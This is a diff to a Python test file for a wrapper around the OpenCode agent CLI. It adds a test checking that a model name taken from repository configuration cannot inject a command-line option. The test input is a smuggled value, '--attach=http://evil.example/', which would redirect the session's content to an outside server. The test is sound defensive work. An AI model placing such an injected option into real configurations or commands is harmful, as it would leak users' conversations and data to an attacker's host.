@@ -668,9 +668,16 @@ def test_a_turn_reads_its_prompt_from_standard_input(agent: OpenCode, context: A
     turn = agent.turn(replace(context, model="openai/gpt-5", permissions="plan"), "--help", SESSION)
     assert turn.stdin == "--help" and "--help" not in turn.argv
     assert turn.argv[1:] == (
-        *("run", "--format", "json", "--model", "openai/gpt-5", "--agent", "plan", "--session", SESSION),
+        *("run", "--format", "json", "--model=openai/gpt-5", "--agent", "plan", "--session", SESSION),
     )
     assert "OPENCODE_PERMISSION" in turn.env
+
+
+def test_a_model_is_no_option(agent: OpenCode, context: AgentContext) -> None:
+    """A repository's configuration names the model without trust; `--attach` has all that is said sent to another's server."""
+    model = "--attach=http://evil.example/"
+    turn = agent.turn(replace(context, model=model), "x", None)
+    assert model not in turn.argv and f"--model={model}" in turn.argv
 
 
 STEP = {"tokens": {"total": 1550, "input": 1200, "output": 50, "reasoning": 0, "cache": {"write": 0, "read": 300}}}
